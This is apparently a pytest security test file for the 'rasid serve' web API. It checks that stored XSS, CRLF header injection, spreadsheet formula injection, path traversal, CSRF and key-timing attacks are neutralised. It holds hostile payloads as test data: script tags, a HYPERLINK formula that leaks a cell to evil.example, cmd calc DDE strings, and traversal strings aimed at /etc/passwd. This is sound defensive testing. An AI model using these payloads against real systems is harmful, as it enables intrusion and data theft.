"""Web security of ``rasid serve``: stored XSS, header injection, path traversal, CSRF, key comparison.

Hostile values go in through the API's own write paths (a posted article, a reviewer's correction) and
every read route is then swept: nothing may come back as markup, through a header, or as a spreadsheet
formula.
"""

from __future__ import annotations

import csv
import hmac
import io
import json
import re
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from rasid.export.acled_csv import spreadsheet_safe, write_acled_csv
from rasid.serve import auth as auth_module
from rasid.serve import create_app

# Written for these tests: an English report with a quote, wrapped in markup and formula payloads.
SCRIPT = "<script>alert('x')</script>"
TEXT = ('Gunmen killed three civilians in Baghdad on Monday, police said. '
        f'"{SCRIPT} We will find those responsible," the interior ministry spokesman said.')
TITLE = '<img src=x onerror="alert(1)">'
OUTLET = "<svg onload=alert(2)>"
URL = "https://example.org/report\r\nSet-Cookie: pwned=1\r\nLocation: https://evil.example/"
FORMULAS = {"actor1": '=HYPERLINK("https://evil.example/?"&A1,"click")' + SCRIPT,
            "location": "-2+3+cmd|' /C calc'!A0", "admin1": "@SUM(1+1)*cmd|' /C calc'!A0",
            "admin2": "\t=1+1", "actor2": "+1+1"}
HTML_TYPES = ("text/html",)


@pytest.fixture
def hostile(client: TestClient, auth: dict[str, str]) -> Iterator[tuple[TestClient, str, str]]:
    """The test client, the hostile document's id and one fused event corrected to formula payloads."""
    posted = client.post("/api/documents", json={"text": TEXT, "doc_id": "hostile-1", "lang": "en",
                                                 "published": "2021-03-02", "title": TITLE, "outlet": OUTLET,
                                                 "url": URL}, headers=auth)
    assert posted.status_code == 201, posted.text
    events = posted.json()["events"]
    assert events, "the hostile report gave no event"
    cluster_id = events[0]["cluster_id"]
    for field, value in FORMULAS.items():
        corrected = client.post(f"/api/events/{cluster_id}/review", headers=auth, json={
            "action": "correct", "field": field, "value": value, "reviewer": SCRIPT, "reason": TITLE})
        assert corrected.status_code == 200, corrected.text
    yield client, "hostile-1", cluster_id


def _read_urls(client: TestClient, doc_id: str, cluster_id: str) -> list[str]:
    """Every GET route of the app, path parameters filled with the hostile document and event."""
    urls = []
    for path, item in client.app.openapi()["paths"].items():  # type: ignore[attr-defined]
        if "get" in item:
            urls.append(path.replace("{doc_id}", doc_id).replace("{cluster_id}", cluster_id))
    return [*urls, "/api/events?limit=500", "/api/quotes?limit=500", f"/api/events?q=spokesman&actor={FORMULAS['actor1'][:5]}"]


def _assert_safe_headers(response: Any) -> None:
    for name, value in response.headers.raw:
        assert b"\r" not in value and b"\n" not in value, (name, value)
        assert name.lower() != b"set-cookie", "no response sets a cookie"
        assert b"pwned" not in value and b"evil.example" not in value, (name, value)


def test_stored_xss_never_comes_back_as_markup(hostile: tuple[TestClient, str, str]) -> None:
    client, doc_id, cluster_id = hostile
    urls = _read_urls(client, doc_id, cluster_id)
    assert len(urls) >= 8
    carried = 0
    for url in urls:
        response = client.get(url)
        assert response.status_code < 500, (url, response.text[:200])
        _assert_safe_headers(response)
        kind = response.headers.get("content-type", "")
        assert response.headers["x-content-type-options"] == "nosniff", url
        assert "default-src 'self'" in response.headers["content-security-policy"], url
        if SCRIPT in response.text or "onerror" in response.text:
            carried += 1
            assert not kind.startswith(HTML_TYPES), url  # data, never a page
            if "json" in kind:
                json.loads(response.text)  # well-formed: the payload is string data inside it
    assert carried >= 5  # the payloads did reach the document, event, quote, export and review responses


def test_the_quote_and_the_title_keep_their_markup_as_text(hostile: tuple[TestClient, str, str]) -> None:
    client, doc_id, _ = hostile
    view = client.get(f"/api/documents/{doc_id}").json()
    assert (view["title"], view["outlet"], view["url"]) == (TITLE, OUTLET, URL)
    quotes = client.get("/api/quotes", params={"limit": 500}).json()["items"]
    assert any(SCRIPT in (q.get("text") or "") for q in quotes), "the quote with the payload was not stored"


def test_csv_export_neutralises_formulas(hostile: tuple[TestClient, str, str]) -> None:
    client, _, cluster_id = hostile
    response = client.get("/api/export.csv")
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == 'attachment; filename="rasid-events.csv"'
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert rows
    for row in rows:
        for _name, cell in row.items():
            if cell and cell[0] in "=+-@\t\r":
                float(cell)  # only a number may start with a sign
    ours = [r for r in rows if r["actor1"].startswith("'=HYPERLINK")]
    assert len(ours) == 1
    for field, value in FORMULAS.items():
        assert ours[0][field] == "'" + value.strip(), field  # reviews store values stripped
    assert client.get(f"/api/events/{cluster_id}").json()["actor1"] == FORMULAS["actor1"]  # JSON keeps the value


def test_spreadsheet_safe_keeps_numbers() -> None:
    assert [spreadsheet_safe(v) for v in (-3, -12.5, "-12.5", "+4", "1e-3", "-", "-x", "=1", "@a", "a=b", "")] == \
        [-3, -12.5, "-12.5", "+4", "1e-3", "'-", "'-x", "'=1", "'@a", "a=b", ""]
    out = io.StringIO()
    write_acled_csv([{"cluster_id": "c1", "latitude": -33.9, "longitude": -70.6, "location": "=cmd()"}], out)
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert (row["latitude"], row["longitude"], row["location"]) == ("-33.9", "-70.6", "'=cmd()")


@pytest.mark.parametrize("path", [
    "/api/events/%0D%0ASet-Cookie:%20pwned=1",
    "/api/documents/x%0D%0ALocation:%20https://evil.example/",
    "/api/quotes%0D%0ASet-Cookie:%20pwned=1/",
    "/api/events/",
    "/api/export.csv?country=%0D%0ASet-Cookie:%20pwned=1",
])
def test_no_request_reaches_a_response_header(client: TestClient, path: str) -> None:
    response = client.get(path, follow_redirects=False)
    assert response.status_code < 500
    _assert_safe_headers(response)


TRAVERSALS = ("..%2f..%2f..%2f..%2fetc%2fpasswd", "../../../../etc/passwd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
              "..%5c..%5c..%5cetc%5cpasswd", "%252e%252e%252f%252e%252e%252fetc%252fpasswd", "/etc/passwd",
              "....//....//etc/passwd", "..%c0%af..%c0%afetc/passwd", "static/../../pyproject.toml",
              "..%2f..%2f..%2f..%2fpyproject.toml", "..%2f__init__.py", "%00/etc/passwd")


def _file_prefixes(client: TestClient) -> list[str]:
    """Every route or mount that takes a file name or path, as the URL prefix before it."""
    prefixes = {"/", "/static/", "/vendor/", "/boundaries/", "/docs/"}
    for route in client.app.routes:  # type: ignore[attr-defined]
        path = getattr(route, "path", "")
        if ":path}" in path or "{name}" in path or type(route).__name__ == "Mount":
            prefixes.add(path.split("{", 1)[0].rstrip("/") + "/")
    return sorted(prefixes)


def test_no_path_traversal_in_file_routes(client: TestClient) -> None:
    secret_marks = ("root:", "[project]", "from __future__")
    prefixes = _file_prefixes(client)
    assert "/static/" in prefixes
    for prefix in prefixes:
        for attack in TRAVERSALS:
            response = client.get(prefix + attack)
            assert response.status_code in (400, 404, 405, 422), (prefix + attack, response.status_code)
            assert not any(mark in response.text for mark in secret_marks), prefix + attack


def test_static_files_are_served_by_name(client: TestClient) -> None:
    """The traversal test is not passing because nothing is served: a real file comes back."""
    from rasid.serve.dashboard import static_files

    name = sorted(static_files())[0]
    response = client.get(f"/static/{name}")
    assert response.status_code == 200 and response.content
    assert not response.headers["content-type"].startswith("application/octet-stream")


def _review_count(db: Path) -> int:
    conn = sqlite3.connect(db)
    try:
        return int(conn.execute("SELECT count(*) FROM reviews").fetchone()[0])
    finally:
        conn.close()


def test_cross_site_form_posts_and_cookies_never_authorise(client: TestClient, db_copy: Path, api_key: str) -> None:
    cluster_id = client.get("/api/events", params={"limit": 1}).json()["items"][0]["cluster_id"]
    url = f"/api/events/{cluster_id}/review"
    form = {"action": "reject", "reviewer": "mallory", "reason": "csrf"}
    body = json.dumps(form)
    site = {"Origin": "https://evil.example", "Referer": "https://evil.example/page"}
    attempts = [
        client.post(url, data=form, headers=site),  # an HTML form: application/x-www-form-urlencoded
        client.post(url, content=body, headers={**site, "Content-Type": "text/plain"}),  # a "simple" request
    ]
    for name, value in (("Authorization", f"Bearer {api_key}"), ("api_key", api_key), ("X-API-Key", api_key),
                        ("session", api_key)):
        client.cookies.set(name, value)  # a browser would send these with a cross-site request
    attempts += [
        client.post(url, content=body, headers={**site, "Content-Type": "application/json"}),
        client.post("/api/documents", content=json.dumps({"text": "x"}), headers={**site, "Content-Type": "text/plain"}),
    ]
    client.cookies.clear()
    for response in attempts:
        assert response.status_code == 401, response.text
        assert "access-control-allow-origin" not in response.headers
        _assert_safe_headers(response)
    assert _review_count(db_copy) == 0
    preflight = client.options(url, headers={**site, "Access-Control-Request-Method": "POST",
                                             "Access-Control-Request-Headers": "x-api-key"})
    assert "access-control-allow-origin" not in preflight.headers
    done = client.post(url, json=form, headers={"X-API-Key": api_key})  # the same request with the key works
    assert done.status_code == 200 and _review_count(db_copy) == 1


def test_keys_are_compared_as_digests_in_constant_time(db_copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every configured key is compared (no early exit), always as equal-length digests."""
    compared: list[tuple[int, int]] = []
    real = hmac.compare_digest

    def spy(a: Any, b: Any) -> bool:
        compared.append((len(a), len(b)))
        return real(a, b)

    keys = ["first-key", "a-much-longer-second-key-for-the-length-check"]
    monkeypatch.setattr(auth_module.hmac, "compare_digest", spy)
    with TestClient(create_app(db_copy, api_keys=keys)) as client:
        for presented, status in ((keys[0], 422), ("f", 401), ("first-kez", 401)):
            compared.clear()
            response = client.post("/api/documents", json={}, headers={"X-API-Key": presented})
            assert response.status_code == status
            assert len(compared) >= len(keys)
            assert len({n for pair in compared for n in pair}) == 1  # one length: the digest's


def test_dashboard_scripts_never_turn_data_into_html() -> None:
    """The dashboard shows the same hostile text: its scripts build DOM nodes and text, never HTML strings."""
    from rasid.serve.dashboard import STATIC

    scripts = sorted(STATIC.rglob("*.js"))
    assert scripts
    sinks = ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function")
    for script in scripts:
        code = script.read_text(encoding="utf-8")
        assert not [s for s in sinks if s in code], script.name
    page = (STATIC / "index.html").read_text(encoding="utf-8")
    assert "<script" in page
    # No inline script: the CSP (script-src 'self') allows none, so every script tag names its file.
    assert not re.findall(r"<script(?![^>]*\bsrc=)[^>]*>", page)
